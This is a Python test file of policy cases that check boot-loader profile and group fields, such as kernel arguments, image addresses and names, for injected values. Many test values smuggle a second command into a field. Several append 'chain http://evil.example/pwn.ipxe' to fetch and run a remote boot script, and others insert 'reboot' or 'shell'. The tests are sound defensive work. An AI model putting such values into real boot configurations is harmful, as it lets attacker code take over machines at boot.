"""What must not reach the scripts of boot loaders."""

from tests.policy.support import Case, patched

EVIL = "http://evil.example/pwn.ipxe"
WHOLE, PLAIN, TLS = "boot-arguments-are-whole", "boot-script-is-plain", "boot-images-come-by-tls"
NOT_ONE = "args[4] is not one kernel argument"
IMAGE = "https://factory.example.com/image/1/v1.14.2/kernel-amd64"

CASES = (
    *(
        Case(WHOLE, "profile", {"args[+]": argument}, NOT_ONE)
        for argument in (
            f"console=ttyS1\nchain {EVIL}",
            f"console=ttyS1\r\nchain {EVIL}",
            f"console=ttyS1\u2028chain {EVIL}",
            "console=ttyS1\x85shell",
            "console=ttyS1\x1b[2J",
            "a b",
            "&&",
            "||",
            ";",
            "#",
            "#comment",
            'a="b && c"',
            'a="b',
            "a=${net0/filename}",
            "a=`reboot`",
            "a=b;reboot",
            "",
        )
    ),
    # A whole command, word by word: the boot loader joins them again.
    Case(
        WHOLE,
        "profile",
        {"args": ["slab_nomerge", "pti=on", "&&", "chain", EVIL]},
        "args[2] is not one kernel argument",
    ),
    patched(
        WHOLE,
        {"machine": {"install": {"extraKernelArgs": ["a=b\nc"]}}},
        "machine.install.extraKernelArgs[1] is not one kernel argument",
    ),
    *(
        Case(PLAIN, "profile", {"kernel": address}, "kernel is not a plain address")
        for address in (
            f"{IMAGE}\nchain {EVIL}",
            f"{IMAGE} && chain {EVIL}",
            "https://user:password@factory.example.com/kernel",
            f"{IMAGE}?a=b",
            "${net0/filename}",
            "https://factory.example.com/../kernel",
            "tftp://10.0.0.1/kernel",
        )
    ),
    Case(PLAIN, "profile", {"initrds": [IMAGE, f"{IMAGE}\nshell"]}, "initrds[1] is not a plain address"),
    Case(PLAIN, "profile", {"name": "../groups/x"}, "name is not a plain name"),
    Case(PLAIN, "group", {"profile": "dev\n"}, "profile is not a plain name"),
    Case(PLAIN, "group", {"selector": {"mac": "52:54:00:aa:00:01\n"}}, "selector.<0> is not a plain word"),
    Case(PLAIN, "group", {"metadata": {"machine": "cp-1\x1b[2J"}}, "metadata.<0> is not a plain word"),
    Case(PLAIN, "group", {"metadata": {"a b": "c"}}, "metadata.<0> is not a plain word"),
    Case(TLS, "profile", {"kernel": "http://factory.example.com/kernel"}, "kernel is fetched without TLS"),
    Case(TLS, "profile", {"kernel": "http://8.8.8.8/kernel"}, "kernel is fetched without TLS"),
    Case(TLS, "profile", {"initrds": ["http://172.32.0.1/initramfs"]}, "initrds[0] is fetched without TLS"),
)
